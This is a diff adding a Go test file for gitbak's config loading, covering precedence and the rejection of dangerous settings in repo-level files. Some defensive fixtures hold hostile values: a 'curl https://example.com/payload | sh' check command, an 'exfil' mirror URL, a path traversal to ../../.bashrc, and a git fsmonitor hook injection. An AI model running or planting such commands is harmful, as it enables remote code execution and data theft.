@@ -0,0 +1,224 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	gitbakErrors "github.com/bashhack/gitbak/pkg/errors"
+)
+
+func TestConfigFiles(t *testing.T) {
+	tests := map[string]struct {
+		global      string
+		repo        string
+		env         map[string]string
+		args        []string
+		expectError bool
+		check       func(t *testing.T, c *Config)
+	}{
+		"NoFiles": {
+			check: func(t *testing.T, c *Config) {
+				if c.Interval != DefaultInterval {
+					t.Errorf("Expected default interval, got %s", c.Interval)
+				}
+			},
+		},
+		"GlobalFile": {
+			global: "interval = 2\nprefix = \"[me]\"\nquiet = true\n",
+			check: func(t *testing.T, c *Config) {
+				if c.Interval != 2*time.Minute || c.CommitPrefix != "[me]" || c.Verbose {
+					t.Errorf("Expected global settings, got interval=%s prefix=%q verbose=%v",
+						c.Interval, c.CommitPrefix, c.Verbose)
+				}
+			},
+		},
+		"RepoFileOverridesGlobal": {
+			global: "interval = 2\nprefix = \"[me]\"\n",
+			repo:   "interval = 0.5\nno-branch = true\n",
+			check: func(t *testing.T, c *Config) {
+				if c.Interval != 30*time.Second || c.CommitPrefix != "[me]" || c.CreateBranch {
+					t.Errorf("Expected repo settings over global ones, got interval=%s prefix=%q createBranch=%v",
+						c.Interval, c.CommitPrefix, c.CreateBranch)
+				}
+			},
+		},
+		"EnvironmentWins": {
+			repo: "interval = 0.5\nno-branch = true\n",
+			env:  map[string]string{"INTERVAL_MINUTES": "7", "CREATE_BRANCH": "true"},
+			check: func(t *testing.T, c *Config) {
+				if c.Interval != 7*time.Minute || !c.CreateBranch {
+					t.Errorf("Expected environment over files, got interval=%s createBranch=%v", c.Interval, c.CreateBranch)
+				}
+			},
+		},
+		"FlagsWin": {
+			repo: "interval = 0.5\nmax-retries = 9\n",
+			args: []string{"-interval", "3"},
+			check: func(t *testing.T, c *Config) {
+				if c.Interval != 3*time.Minute || c.MaxRetries != 9 {
+					t.Errorf("Expected flags over files, got interval=%s maxRetries=%d", c.Interval, c.MaxRetries)
+				}
+			},
+		},
+		"RepeatableFlag": {
+			global: "mirror = [\"nas=ssh://nas/backup.git\", \"cloud=origin,every=1h\"]\n",
+			check: func(t *testing.T, c *Config) {
+				if strings.Join(c.Mirrors, ";") != "nas=ssh://nas/backup.git;cloud=origin,every=1h" {
+					t.Errorf("Expected both mirrors, got %v", c.Mirrors)
+				}
+			},
+		},
+		"UnknownSetting": {
+			repo:        "intervall = 2\n",
+			expectError: true,
+		},
+		"ForbiddenSetting": {
+			repo:        "yes = true\n",
+			expectError: true,
+		},
+		"GlobalOnlySetting": {
+			global: "on-commit = \"./global-hook.sh\"\n",
+			check: func(t *testing.T, c *Config) {
+				if c.OnCommit != "./global-hook.sh" {
+					t.Errorf("Expected the global file to set a hook, got %q", c.OnCommit)
+				}
+			},
+		},
+		"GlobalOnlySettingInRepo": {
+			repo:        "on-commit = \"./hook.sh\"\n",
+			expectError: true,
+		},
+		"CheckCommandInRepo": {
+			repo:        "check-cmd = \"curl https://example.com/payload | sh\"\n",
+			expectError: true,
+		},
+		"CheckCommandInGlobal": {
+			global: "check-cmd = \"go build ./...\"\n",
+			check: func(t *testing.T, c *Config) {
+				if c.CheckCommand != "go build ./..." {
+					t.Errorf("Expected the global file to set the check command, got %q", c.CheckCommand)
+				}
+			},
+		},
+		"ListenInRepo": {
+			repo:        "listen = \"127.0.0.1:7373\"\n",
+			expectError: true,
+		},
+		"MirrorInRepo": {
+			repo:        "mirror = [\"exfil=https://example.com/collect.git\"]\n",
+			expectError: true,
+		},
+		"PushInRepo": {
+			repo:        "push = \"https://example.com/collect.git\"\n",
+			expectError: true,
+		},
+		"SummaryFileInRepo": {
+			repo:        "summary-file = \"../../.bashrc\"\n",
+			expectError: true,
+		},
+		"SummaryFileInGlobal": {
+			global: "summary-file = \"session.md\"\n",
+			check: func(t *testing.T, c *Config) {
+				if c.SummaryFile != "session.md" {
+					t.Errorf("Expected the global file to set the summary file, got %q", c.SummaryFile)
+				}
+			},
+		},
+		"LogFileInRepo": {
+			repo:        "log-file = \"/tmp/gitbak-elsewhere.log\"\n",
+			expectError: true,
+		},
+		"JournalInRepo": {
+			repo:        "journal = \"../../.profile\"\n",
+			expectError: true,
+		},
+		"OTLPEndpointInRepo": {
+			repo:        "otlp-endpoint = \"https://collector.example.com\"\n",
+			expectError: true,
+		},
+		"MetricsAddrInRepo": {
+			repo:        "metrics-addr = \"0.0.0.0:9473\"\n",
+			expectError: true,
+		},
+		"PprofInRepo": {
+			repo:        "pprof = \"0.0.0.0:6060\"\n",
+			expectError: true,
+		},
+		"NudgeAddrInRepo": {
+			repo:        "nudge-addr = \"0.0.0.0:7091\"\n",
+			expectError: true,
+		},
+		"NudgeAddrInGlobal": {
+			global: "nudge-addr = \"unix:/tmp/gitbak.sock\"\n",
+			check: func(t *testing.T, c *Config) {
+				if c.NudgeAddr != "unix:/tmp/gitbak.sock" {
+					t.Errorf("Expected the global file to set the nudge address, got %q", c.NudgeAddr)
+				}
+			},
+		},
+		"GitArgsInRepo": {
+			repo:        "git-args = \"-c core.fsmonitor=./fsmonitor.sh\"\n",
+			expectError: true,
+		},
+		"InvalidValue": {
+			repo:        "interval = \"often\"\n",
+			expectError: true,
+		},
+		"MalformedFile": {
+			global:      "interval = \n",
+			expectError: true,
+		},
+	}
+
+	for name, test := range tests {
+		t.Run(name, func(t *testing.T) {
+			configDir := t.TempDir()
+			repoPath := t.TempDir()
+			t.Setenv("XDG_CONFIG_HOME", configDir)
+			t.Setenv("INTERVAL_MINUTES", "")
+			_ = os.Unsetenv("INTERVAL_MINUTES")
+			t.Setenv("CREATE_BRANCH", "")
+			_ = os.Unsetenv("CREATE_BRANCH")
+			for k, v := range test.env {
+				t.Setenv(k, v)
+			}
+
+			if test.global != "" {
+				writeConfigFile(t, GlobalConfigFile(), test.global)
+			}
+			if test.repo != "" {
+				writeConfigFile(t, filepath.Join(repoPath, RepoConfigFile), test.repo)
+			}
+
+			c := New()
+			c.LoadFromEnvironment()
+			c.RepoPath = repoPath
+
+			err := c.ParseArgs(test.args)
+			if test.expectError {
+				var configErr *gitbakErrors.ConfigError
+				if !gitbakErrors.As(err, &configErr) || configErr.Parameter != "configFile" {
+					t.Errorf("Expected a configFile ConfigError, got %v", err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("ParseArgs failed: %v", err)
+			}
+			test.check(t, c)
+		})
+	}
+}
+
+func writeConfigFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatalf("Failed to create config directory: %v", err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("Failed to write config file: %v", err)
+	}
+}